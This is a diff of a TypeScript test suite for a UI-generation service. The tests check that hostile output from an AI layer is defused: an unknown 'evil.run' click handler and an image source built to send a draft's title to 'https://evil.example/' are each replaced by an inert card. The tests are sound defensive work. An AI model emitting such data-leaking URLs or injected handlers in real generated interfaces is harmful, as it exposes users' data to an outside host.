@@ -336,23 +336,6 @@ describe('an AI layer that is wrong or hostile', () => {
 
   it.each([
     [
-      'an unknown tool',
-      {
-        ...document,
-        ui: { ...document.ui, components: [{ type: 'button', props: { text: 'x' }, on_event: { click: 'evil.run' } }] },
-      },
-    ],
-    [
-      'an address built from data',
-      {
-        ...document,
-        ui: {
-          ...document.ui,
-          components: [{ type: 'image', props: { src: "='https://evil.example/' + draft.title" } }],
-        },
-      },
-    ],
-    [
       'a forbidden name',
       JSON.parse('{"app":{"id":"x","name":"X"},"data":{"__proto__":{"a":1}},"ui":{"title":"X","components":[]}}'),
     ],
@@ -369,6 +352,38 @@ describe('an AI layer that is wrong or hostile', () => {
     await expect(generation.generate(request, emit, never)).rejects.toMatchObject({ code: 'EPROTO' });
     expect(drafts.size).toBe(0);
     expect(types(told)).not.toContain('ui_complete');
+  });
+
+  it.each([
+    ['an unknown tool', { type: 'button', id: 'b', props: { text: 'x' }, on_event: { click: 'evil.run' } }],
+    [
+      'an address built from data',
+      { type: 'image', id: 'b', props: { src: "='https://evil.example/' + draft.title" } },
+    ],
+  ])('has a card in place of %s, said aloud, and nothing of it is armed', async (_, component) => {
+    const bad = { ...document, ui: { ...document.ui, components: [component] } };
+    const { generation, emit, told, drafts } = await world((call) => {
+      send(call, [done(bad)]);
+      call.end();
+    });
+    await generation.generate(request, emit, never);
+    const [shown] = drafts.get('a1')?.ui.components ?? [];
+    expect(shown).toMatchObject({ type: 'card', id: 'b', props: { title: 'This part could not be made' } });
+    expect(JSON.stringify(shown)).not.toMatch(/"(on_event|src)"/);
+    expect(told.filter(({ type }) => type === 'thought' || type === 'ui_issue')).toHaveLength(1);
+  });
+
+  it('is repaired aloud when its text is only almost JSON', async () => {
+    const { generation, emit, told, drafts } = await world((call) => {
+      const text = `\`\`\`json\n${JSON.stringify(document).replace(/}$/, ',}}')}\n\`\`\``;
+      const sent = done(document);
+      if (sent.$case === 'done') sent.value.blueprintJson = text;
+      send(call, [sent]);
+      call.end();
+    });
+    await generation.generate(request, emit, never);
+    expect(drafts.get('a1')?.ui.components).toEqual(document.ui.components);
+    expect(told.filter(({ type }) => type === 'thought').length).toBeGreaterThan(0);
   });
 
   it('leaves out operations that are none, aloud', async () => {
